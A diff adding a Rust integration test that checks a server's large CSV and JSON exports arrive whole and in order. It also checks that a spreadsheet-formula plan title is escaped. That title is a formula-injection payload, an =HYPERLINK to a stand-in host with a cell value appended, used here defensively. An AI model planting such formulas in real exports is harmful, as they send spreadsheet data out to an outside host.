@@ -405,3 +405,39 @@ async fn facts_story(backend: Backend) {
     assert_eq!(administration(&d), [("Ghana".to_owned(), 3.0, 1)]);
     server.stop().await;
 }
+
+on_every_backend!(a_large_export_comes_whole_and_carries_no_formula, large_export);
+
+/// An export is written a page of documents at a time (CSV and JSON as they
+/// are made): 150 plans, over several pages, all arrive, in order, once. A
+/// plan title typed as a spreadsheet formula reaches the CSV as text.
+async fn large_export(backend: Backend) {
+    const PLANS: usize = 150;
+    const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/\"&C2,\"Click for the budget\")";
+    let server = TestServer::start_on(backend).await;
+    server.member(GH, "ama", "editor");
+    let mut ama = device(&server, "ama").await;
+    for n in 0..PLANS {
+        let Content::Plan(mut p) = plan() else { unreachable!() };
+        p.title = if n == 7 { FORMULA.into() } else { format!("Plan {n}") };
+        ama.store.create(&format!("plan-{n:03}"), GH, &Content::Plan(p), 1).expect("plan");
+    }
+    ama.sync(&[GH]).await.expect("sync");
+    let token = ama.client.token().to_owned();
+
+    let (status, body) = fetch(&server, &token, "plans.csv").await;
+    assert_eq!(status, 200);
+    let t = csv(&body);
+    assert_eq!(t.len(), 1 + PLANS, "the header and one activity of each plan");
+    let (document, title) = (column(&t, "plan"), column(&t, "plan_title"));
+    let ids: Vec<&str> = t[1..].iter().map(|r| r[document].as_str()).collect();
+    let expected: Vec<String> = (0..PLANS).map(|n| format!("plan-{n:03}")).collect();
+    assert_eq!(ids, expected, "every plan once, in order");
+    assert_eq!(t[8][title], format!("'{FORMULA}"), "the formula arrives as text");
+
+    let (status, body) = fetch(&server, &token, "documents.json").await;
+    assert_eq!(status, 200);
+    let docs: Value = serde_json::from_slice(&body).expect("one JSON document");
+    assert_eq!(docs.as_array().expect("a list").len(), PLANS);
+    server.stop().await;
+}
